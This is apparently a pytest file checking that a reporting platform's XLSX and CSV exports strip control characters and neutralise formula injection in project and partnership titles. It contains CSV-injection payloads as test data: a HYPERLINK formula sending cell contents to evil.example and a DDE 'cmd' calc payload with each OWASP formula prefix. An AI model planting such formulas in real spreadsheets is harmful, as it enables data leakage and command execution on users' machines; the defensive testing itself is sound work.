"""What an officer pastes into a title reaches every spreadsheet the platform writes (the ODA
declaration, the Atlas sheets, the list exports) through the one writer: a control character
never breaks a file, and a text that looks like a formula stays inert text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from jumelage.partners.tests.factories import PartnershipFactory
from jumelage.projects.tests.factories import ProjectFactory
from jumelage.reporting.atlas import export as atlas_export
from jumelage.reporting.atlas.selectors import atlas_sheets
from jumelage.reporting.oda import export as oda_export
from jumelage.reporting.oda.selectors import oda_declaration
from jumelage.reporting.spreadsheets import writers
from jumelage.reporting.spreadsheets.exports import CSV, EXPORTS, XLSX, write_export
from jumelage.reporting.tests.oda_dataset import YEAR, disbursement, reference_data

BELL = "Forages\x07 de Cap-Haïtien"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'


def cells_holding(book, text):
    """Every cell of the workbook whose value starts with `text`."""
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(text)
    ]


def csv_fields(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [field for row in csv.reader(io.StringIO(text), delimiter=";") for field in row]


def assert_inert(book):
    found = cells_holding(book, FORMULA)
    assert found
    for cell in found:
        assert cell.data_type == "s"
        assert cell.value == FORMULA
        # Excel's mark of a text typed after an apostrophe: it stays text when edited.
        assert cell.quotePrefix


@pytest.fixture
def titled(city_a):
    """Two projects of city_a with a disbursement each: one title holds a bell character (as
    pasted from another program), the other a formula."""
    reference_data()
    for title in (BELL, FORMULA):
        disbursement(city_a, project=ProjectFactory(authority=city_a, title={"fr": title}))


def test_a_control_character_in_a_title_never_breaks_the_oda_files(city_a, titled):
    declaration = oda_declaration(city_a, YEAR)

    book = load_workbook(io.BytesIO(oda_export.xlsx_bytes(declaration)))
    fields = csv_fields(oda_export.csv_bytes(declaration))

    assert cells_holding(book, "Forages de Cap-Haïtien")
    assert "Forages de Cap-Haïtien" in fields
    assert not any("\x07" in field for field in fields)


def test_a_formula_in_a_title_stays_text_in_the_oda_files(city_a, titled):
    declaration = oda_declaration(city_a, YEAR)

    assert_inert(load_workbook(io.BytesIO(oda_export.xlsx_bytes(declaration))))
    assert "'" + FORMULA in csv_fields(oda_export.csv_bytes(declaration))


def test_control_characters_and_formulas_in_titles_leave_the_atlas_sheets_whole_and_inert(
    city_a,
):
    PartnershipFactory(authority=city_a, title={"en": BELL, "fr": BELL})
    PartnershipFactory(authority=city_a, title={"en": FORMULA, "fr": FORMULA})

    book = load_workbook(io.BytesIO(atlas_export.xlsx_bytes(city_a, atlas_sheets(city_a))))

    assert cells_holding(book, "Forages de Cap-Haïtien")
    assert_inert(book)


@pytest.mark.parametrize("name", ["projects", "partnerships"])
def test_control_characters_and_formulas_in_titles_leave_the_list_exports_whole_and_inert(
    city_a, officer_a, titled, name
):
    PartnershipFactory(authority=city_a, title={"fr": BELL})
    PartnershipFactory(authority=city_a, title={"fr": FORMULA})
    stream = io.BytesIO()
    write_export(EXPORTS[name], stream, file_format=XLSX, language="fr", user=officer_a)
    content = io.BytesIO()
    write_export(EXPORTS[name], content, file_format=CSV, language="fr", user=officer_a)

    book = load_workbook(io.BytesIO(stream.getvalue()))
    assert cells_holding(book, "Forages de Cap-Haïtien")
    assert_inert(book)
    fields = csv_fields(content.getvalue())
    assert "'" + FORMULA in fields
    assert not any("\x07" in field for field in fields)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_of_the_owasp_advice_is_neutralised_in_both_formats(start):
    text = f"{start}cmd|' /C calc'!A0"
    stream = io.BytesIO()
    writers.write_xlsx(stream, title="t", headers=["Text"], kinds=[writers.TEXT], rows=[[text]])
    cell = load_workbook(io.BytesIO(stream.getvalue())).active["A2"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert writers.csv_value(text, writers.TEXT, decimal_separator=",") == "'" + text


def test_numbers_stay_numbers_and_plain_text_is_left_alone():
    rows = [[Decimal("-1200.50"), -3, "Kragujevac", "1 200"]]
    kinds = [writers.AMOUNT, writers.INTEGER, writers.TEXT, writers.TEXT]
    stream = io.BytesIO()
    writers.write_xlsx(stream, title="t", headers=["a", "b", "c", "d"], kinds=kinds, rows=rows)
    amount, count, name, digits = load_workbook(io.BytesIO(stream.getvalue())).active[2]
    assert (amount.value, amount.data_type) == (-1200.5, "n")
    assert (count.value, count.data_type) == (-3, "n")
    assert not name.quotePrefix and not digits.quotePrefix
    text = io.StringIO(newline="")
    writers.write_csv(text, headers=["a", "b", "c", "d"], kinds=kinds, rows=rows, language="fr")
    assert text.getvalue().splitlines()[1] == "-1200,50;-3;Kragujevac;1 200"
